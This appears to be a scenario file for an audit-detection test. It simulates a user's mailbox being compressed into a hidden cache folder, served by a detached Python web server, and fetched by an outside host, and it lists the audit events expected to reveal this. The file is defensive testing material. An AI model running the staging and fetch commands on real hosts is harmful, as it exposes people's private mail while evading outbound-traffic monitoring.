# The data are fetched, not sent.
title="Messages packed into a cache folder and served over HTTP"
what="A remote command of buyer packs all messages with xz into ~/.cache/thumb and leaves a Python web server behind in that folder. A minute later the archive is fetched from 203.0.113.66. Nothing on the host connects to the outside."
host=mx1.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules

act() {
  small_talk 3
  for n in 1 2 3; do mail_in --from "offers$n@example.net" --to buyer@example.org --subject "Offer $n"; done
  wait_mail buyer 3
  ssh_run buyer 'mkdir -p .cache/thumb && cat Maildir/new/* | xz > .cache/thumb/large && cd .cache/thumb && (setsid nohup python3 -m http.server 8099 >/dev/null 2>&1 &) ; sleep 1'
  sleep 2
  outside curl -s --interface 203.0.113.66 -o /dev/null "http://$host_ip:8099/large"
  small_talk 1
}
truth() {
  exec_step read 'cat Maildir/new/' 'all messages are read'
  exec_step serve 'python3 -m http.server 8099' 'a web server is left in the folder'
  file_step fetched 'python3.* openat:read .*large' 'it reads the archive for somebody'
}
